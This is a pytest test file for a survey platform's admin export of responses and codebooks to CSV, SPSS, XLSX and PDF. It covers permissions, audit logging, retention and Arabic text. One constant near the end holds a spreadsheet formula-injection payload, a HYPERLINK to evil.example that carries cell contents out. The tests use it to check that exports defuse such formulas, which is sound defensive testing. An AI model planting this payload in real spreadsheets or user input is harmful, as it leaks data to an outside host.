"""Staff export raw responses and the codebook from the admin; every file reads back."""

import csv
import datetime
import io

import openpyxl
import pyreadstat
import pytest
from wagtail.models import ModelLogEntry

from analytics.exports.codebook import spss_name
from analytics.exports.services import purge_expired_exports
from analytics.exports.storage import export_root
from analytics.models import Export
from surveys.models import Question, Response
from tests.factories import (
    QuestionnaireFactory,
    ResponseFactory,
    WaveFactory,
    add_question,
    answer,
    submit,
)

pytestmark = pytest.mark.django_db

ARABIC = "مرحبا، كيف حالك"
AWKWARD = 'Mit Komma, "Zitat"\nund neuer Zeile'


def export_file(client, user, wave, format, tmp_path, capture):
    """Ask for an export on the admin page and download the finished file."""
    client.force_login(user)
    with capture(execute=True):
        response = client.post("/admin/data/exports/", {"wave": wave.pk, "format": format})
    assert response.status_code == 302, response.content.decode()[:2000]
    export = Export.objects.latest("pk")
    assert export.status == Export.Status.DONE, export.error
    download = client.get(f"/admin/data/exports/{export.pk}/download/")
    assert download.status_code == 200
    path = tmp_path / f"download.{format}"
    path.write_bytes(b"".join(download.streaming_content))
    return path


@pytest.fixture
def rich_wave():
    """A wave with every answer kind, awkward option labels and a declined answer."""
    questionnaire = QuestionnaireFactory(with_questions=False)
    place = add_question(
        questionnaire,
        "treffpunkt",
        Question.Kind.SINGLE_CHOICE,
        "Wo triffst du Freunde?",
        options=[("park", AWKWARD), ("jugendzentrum", ARABIC)],
        allows_decline=True,
    )
    sports = add_question(
        questionnaire,
        "sport",
        Question.Kind.MULTIPLE_CHOICE,
        "Welchen Sport machst du?",
        options=[("fussball", "Fußball"), ("tanzen", "Tanzen"), ("boxen", "Boxen")],
        allows_decline=True,
    )
    mood = add_question(questionnaire, "stimmung", Question.Kind.SCALE_0_10, "Wie geht's dir?")
    wish = add_question(questionnaire, "wunsch", Question.Kind.LONG_TEXT, "Was wünschst du dir?")
    wave = WaveFactory(questionnaire=questionnaire)
    first = ResponseFactory(wave=wave)
    answer(first, place, "park")
    answer(first, sports, ["fussball", "boxen"])
    answer(first, mood, 7)
    answer(first, wish, AWKWARD)
    second = ResponseFactory(wave=wave, language="ar")
    answer(second, place, declined=True)
    answer(second, sports, declined=True)
    answer(second, wish, ARABIC)
    return wave


def test_an_analyst_gets_one_csv_row_per_response_and_one_column_per_question(
    client, analyst, tmp_path, django_capture_on_commit_callbacks
):
    wave = WaveFactory()
    submit(wave, 3, quarter="wehringhausen", feeling="4", say=8)

    path = export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)

    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert [(row["wohlfuehlen"], row["mitbestimmen"]) for row in rows] == [("4", "8")] * 3


def test_multiple_choice_becomes_one_zero_or_one_column_per_option(
    client, analyst, rich_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, rich_wave, "csv", tmp_path, django_capture_on_commit_callbacks
    )

    first = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert (first["sport_fussball"], first["sport_tanzen"], first["sport_boxen"]) == ("1", "0", "1")


def test_commas_quotes_newlines_and_arabic_survive_the_csv(
    client, analyst, rich_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, rich_wave, "csv", tmp_path, django_capture_on_commit_callbacks
    )

    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert [row["wunsch"] for row in rows] == [AWKWARD, ARABIC]


def test_the_spss_file_carries_variable_labels_and_value_labels(
    client, analyst, rich_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, rich_wave, "sav", tmp_path, django_capture_on_commit_callbacks
    )

    _, meta = pyreadstat.read_sav(str(path))
    assert meta.column_names_to_labels["treffpunkt"] == "Wo triffst du Freunde?"
    assert meta.variable_value_labels["treffpunkt"] == {
        1.0: AWKWARD,
        2.0: ARABIC,
        -9.0: "möchte ich nicht sagen",
    }


def test_prefer_not_to_say_is_a_user_missing_code_in_spss(
    client, analyst, rich_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, rich_wave, "sav", tmp_path, django_capture_on_commit_callbacks
    )

    data, meta = pyreadstat.read_sav(str(path), user_missing=True)
    assert list(data["treffpunkt"]) == [1.0, -9.0]
    assert meta.missing_ranges["treffpunkt"] == [{"lo": -9.0, "hi": -9.0}]


def test_free_text_in_arabic_script_reads_back_from_spss(
    client, analyst, rich_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, rich_wave, "sav", tmp_path, django_capture_on_commit_callbacks
    )

    data, _ = pyreadstat.read_sav(str(path))
    assert list(data["wunsch"]) == [AWKWARD, ARABIC]


def test_the_xlsx_file_reads_back_with_the_same_cells(
    client, analyst, rich_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, rich_wave, "xlsx", tmp_path, django_capture_on_commit_callbacks
    )

    sheet = openpyxl.load_workbook(path, read_only=True).worksheets[0]
    header, first, second = (list(row) for row in sheet.iter_rows(values_only=True))
    assert dict(zip(header, second, strict=True))["wunsch"] == ARABIC
    assert dict(zip(header, first, strict=True))["stimmung"] == 7


def test_a_too_long_variable_name_gets_a_stable_spss_name_that_the_codebook_documents(
    client, analyst, tmp_path, django_capture_on_commit_callbacks
):
    # A question key and an option code may hold 50 characters each; together they
    # name a multiple-choice column, longer than the 64 SPSS allows.
    key, code = (
        "wo-verbringst-du-deine-freizeit-im-quartier",
        "jugendzentrum-altenhagen-am-wochenende",
    )
    questionnaire = QuestionnaireFactory(with_questions=False)
    question = add_question(
        questionnaire, key, Question.Kind.MULTIPLE_CHOICE, "Wo?", options=[(code, "JZ")]
    )
    wave = WaveFactory(questionnaire=questionnaire)
    answer(ResponseFactory(wave=wave), question, [code])
    expected = spss_name(f"{key}_{code}", set())

    sav = export_file(client, analyst, wave, "sav", tmp_path, django_capture_on_commit_callbacks)
    codebook = export_file(
        client, analyst, wave, "codebook_html", tmp_path, django_capture_on_commit_callbacks
    )

    assert len(expected) <= 64
    assert list(pyreadstat.read_sav(str(sav))[0][expected]) == [1.0]
    assert f"Umbenannt aus „{key}_{code}“" in codebook.read_text()


def test_two_questionnaire_versions_share_a_column_by_question_key(
    client, analyst, tmp_path, django_capture_on_commit_callbacks
):
    old = QuestionnaireFactory(key="check", version=1)
    new = QuestionnaireFactory(key="check", version=2)
    wave = WaveFactory(questionnaire=new)
    answer(ResponseFactory(wave=wave, questionnaire=old), old.questions.get(key="wohlfuehlen"), "2")
    answer(ResponseFactory(wave=wave), new.questions.get(key="wohlfuehlen"), "5")

    path = export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)

    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert [(row["version"], row["wohlfuehlen"]) for row in rows] == [("1", "2"), ("2", "5")]


def test_a_question_whose_kind_changed_between_versions_gets_a_column_per_version(
    client, analyst, tmp_path, django_capture_on_commit_callbacks
):
    old = QuestionnaireFactory(key="check", version=1, with_questions=False)
    new = QuestionnaireFactory(key="check", version=2, with_questions=False)
    add_question(old, "freizeit", Question.Kind.SCALE_0_10)
    add_question(new, "freizeit", Question.Kind.SHORT_TEXT)
    wave = WaveFactory(questionnaire=new)
    answer(ResponseFactory(wave=wave, questionnaire=old), old.questions.get(), 4)
    answer(ResponseFactory(wave=wave), new.questions.get(), "Skaten")

    path = export_file(client, analyst, wave, "sav", tmp_path, django_capture_on_commit_callbacks)

    data, _ = pyreadstat.read_sav(str(path))
    assert (data["freizeit_v1"][0], data["freizeit_v2"][1]) == (4.0, "Skaten")


def test_a_wave_without_responses_gets_a_clear_message_and_no_export(client, analyst):
    wave = WaveFactory()
    client.force_login(analyst)

    response = client.post("/admin/data/exports/", {"wave": wave.pk, "format": "sav"})

    assert response.status_code == 400
    assert "Diese Welle hat noch keine Antworten" in response.content.decode()
    assert not Export.objects.exists()


def test_the_codebook_of_a_wave_without_responses_can_be_exported(
    client, analyst, tmp_path, django_capture_on_commit_callbacks
):
    wave = WaveFactory()

    path = export_file(
        client, analyst, wave, "codebook_html", tmp_path, django_capture_on_commit_callbacks
    )

    assert "Ich fühle mich in meinem Quartier wohl." in path.read_text()


def test_the_codebook_pdf_is_a_pdf(
    client, analyst, rich_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, rich_wave, "codebook_pdf", tmp_path, django_capture_on_commit_callbacks
    )

    assert path.read_bytes().startswith(b"%PDF-")


def test_an_export_too_big_for_excel_fails_with_a_message_that_names_the_way_out(
    client, analyst, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr("analytics.exports.writers.XLSX_MAX_ROWS", 2)
    wave = WaveFactory()
    submit(wave, 3)
    client.force_login(analyst)

    with django_capture_on_commit_callbacks(execute=True):
        client.post("/admin/data/exports/", {"wave": wave.pk, "format": "xlsx"})

    page = client.get("/admin/data/exports/").content.decode()
    assert Export.objects.get().status == Export.Status.FAILED
    assert "Bitte exportiere sie stattdessen als CSV oder SPSS." in page


def test_a_staff_member_without_the_export_right_cannot_open_the_export_page(client, editor):
    client.force_login(editor)

    response = client.get("/admin/data/exports/")

    assert response.status_code == 403


def test_a_staff_member_without_the_export_right_cannot_download_a_file(
    client, analyst, editor, tmp_path, django_capture_on_commit_callbacks
):
    wave = WaveFactory()
    submit(wave, 1)
    export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)
    client.force_login(editor)

    response = client.get(f"/admin/data/exports/{Export.objects.get().pk}/download/")

    assert response.status_code == 403


def test_an_export_is_recorded_in_the_audit_log_with_who_and_what(
    client, analyst, tmp_path, django_capture_on_commit_callbacks
):
    wave = WaveFactory(slug="herbst")
    submit(wave, 1)

    export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)

    entry = ModelLogEntry.objects.get(action="part.export_requested")
    assert (entry.user, entry.data["wave"]) == (analyst, "herbst")


def test_responses_of_another_wave_never_enter_the_export(
    client, analyst, tmp_path, django_capture_on_commit_callbacks
):
    wave = WaveFactory()
    other = WaveFactory(questionnaire=wave.questionnaire)
    submit(wave, 2)
    submit(other, 3)

    path = export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)

    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert {int(row["id"]) for row in rows} == set(
        Response.objects.filter(wave=wave).values_list("pk", flat=True)
    )


def test_an_export_older_than_the_retention_period_is_deleted_with_its_file(
    client, analyst, tmp_path, settings, django_capture_on_commit_callbacks
):
    settings.PART_EXPORT_RETENTION_DAYS = 30
    wave = WaveFactory()
    submit(wave, 1)
    export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)
    export = Export.objects.get()
    path = export_root() / export.file_name

    with django_capture_on_commit_callbacks(execute=True):
        deleted = purge_expired_exports(now=export.requested_at + datetime.timedelta(days=31))

    assert (deleted, Export.objects.exists(), path.exists()) == (1, False, False)


def test_an_export_within_the_retention_period_is_kept(
    client, analyst, tmp_path, settings, django_capture_on_commit_callbacks
):
    settings.PART_EXPORT_RETENTION_DAYS = 30
    wave = WaveFactory()
    submit(wave, 1)
    export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)
    export = Export.objects.get()

    deleted = purge_expired_exports(now=export.requested_at + datetime.timedelta(days=29))

    assert (deleted, (export_root() / export.file_name).exists()) == (0, True)


def test_a_dry_run_counts_expired_exports_and_deletes_nothing(
    client, analyst, tmp_path, settings, django_capture_on_commit_callbacks
):
    settings.PART_EXPORT_RETENTION_DAYS = 30
    wave = WaveFactory()
    submit(wave, 1)
    export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)
    export = Export.objects.get()

    counted = purge_expired_exports(
        now=export.requested_at + datetime.timedelta(days=31), dry_run=True
    )

    assert (counted, (export_root() / export.file_name).exists()) == (1, True)


def test_the_retention_rule_of_analytics_names_expired_exports(
    client, analyst, tmp_path, settings, django_capture_on_commit_callbacks
):
    from analytics.retention import RETENTION_RULES

    settings.PART_EXPORT_RETENTION_DAYS = 30
    wave = WaveFactory()
    submit(wave, 1)
    export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)
    export = Export.objects.get()
    label, expired, *_before_delete = RETENTION_RULES[0]

    assert label == "export files"
    assert list(expired(export.requested_at + datetime.timedelta(days=31))) == [export]


def test_no_linking_fingerprint_is_ever_exported(
    client, analyst, tmp_path, django_capture_on_commit_callbacks
):
    from surveys import linking
    from surveys.models import LinkingHash

    wave = WaveFactory(linking_series="vorher-nachher")
    submit(wave, 2)
    digests = linking.fingerprints(series="vorher-nachher", values=["MA", "7", "3", "H", "1"])
    LinkingHash.objects.bulk_create(
        LinkingHash(response=Response.objects.first(), left_out=position, digest=digest)
        for position, digest in enumerate(digests)
    )

    files = [
        export_file(client, analyst, wave, format, tmp_path, django_capture_on_commit_callbacks)
        for format in ("csv", "codebook_html")
    ]

    contents = b"".join(path.read_bytes() for path in files)
    assert not any(digest.encode() in contents for digest in digests)
    assert b"linking" not in contents.lower()


def test_arabic_labels_in_the_codebook_pdf_are_joined_right_to_left(
    client, analyst, rich_wave, tmp_path, django_capture_on_commit_callbacks
):
    import shutil
    import subprocess

    from tests.conftest import need

    need(shutil.which("pdftotext") is not None, "this test needs pdftotext (poppler-utils)")
    path = export_file(
        client, analyst, rich_wave, "codebook_pdf", tmp_path, django_capture_on_commit_callbacks
    )

    text = subprocess.run(
        ["pdftotext", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout

    # Joined letter forms (Arabic Presentation Forms-B), not the bare letters.
    assert any("\ufe70" <= character <= "\ufeff" for character in text)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Klick")'


@pytest.fixture
def formula_wave():
    questionnaire = QuestionnaireFactory(with_questions=False)
    wish = add_question(questionnaire, "wunsch", Question.Kind.LONG_TEXT, "Was wünschst du dir?")
    mood = add_question(questionnaire, "stimmung", Question.Kind.SCALE_0_10, "Wie geht's dir?")
    wave = WaveFactory(questionnaire=questionnaire)
    response = ResponseFactory(wave=wave)
    answer(response, wish, FORMULA)
    answer(response, mood, 3)
    return wave


def test_a_formula_answer_is_no_formula_in_the_xlsx_export(
    client, analyst, formula_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, formula_wave, "xlsx", tmp_path, django_capture_on_commit_callbacks
    )

    cells = [cell for row in openpyxl.load_workbook(path).worksheets[0].iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    assert "'" + FORMULA in [cell.value for cell in cells]


def test_a_number_stays_a_number_in_the_xlsx_export(
    client, analyst, formula_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, formula_wave, "xlsx", tmp_path, django_capture_on_commit_callbacks
    )

    header, row = openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True)
    assert dict(zip(header, row, strict=True))["stimmung"] == 3


def test_a_formula_answer_starts_with_an_apostrophe_in_the_csv_export(
    client, analyst, formula_wave, tmp_path, django_capture_on_commit_callbacks
):
    path = export_file(
        client, analyst, formula_wave, "csv", tmp_path, django_capture_on_commit_callbacks
    )

    row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert (row["wunsch"], row["stimmung"]) == ("'" + FORMULA, "3")


def test_the_export_list_says_how_many_rows_a_finished_file_holds(
    client, analyst, tmp_path, django_capture_on_commit_callbacks
):
    wave = WaveFactory()
    submit(wave, 2)
    export_file(client, analyst, wave, "csv", tmp_path, django_capture_on_commit_callbacks)

    page = client.get("/admin/data/exports/").content.decode()

    assert "Fertig (2 Zeilen)" in page
    assert "data-refresh-while-building" not in page


def test_the_export_list_shows_a_file_being_built_with_its_progress(client, analyst):
    Export.objects.create(
        wave=WaveFactory(),
        format=Export.Format.CSV,
        requested_by=analyst,
        status=Export.Status.RUNNING,
        rows_total=8,
        rows_done=2,
    )
    client.force_login(analyst)

    page = client.get("/admin/data/exports/").content.decode()

    assert '<progress id="export-progress-' in page and 'value="25"' in page
    assert "data-refresh-while-building" in page


def test_a_file_whose_requester_left_is_still_listed(client, analyst, django_user_model):
    former = django_user_model.objects.create_user(username="ehemalig", password="pw")
    Export.objects.create(wave=WaveFactory(), format=Export.Format.CSV, requested_by=former)
    former.delete()
    client.force_login(analyst)

    response = client.get("/admin/data/exports/")

    assert response.status_code == 200
    assert "<small>–</small>" in response.content.decode()
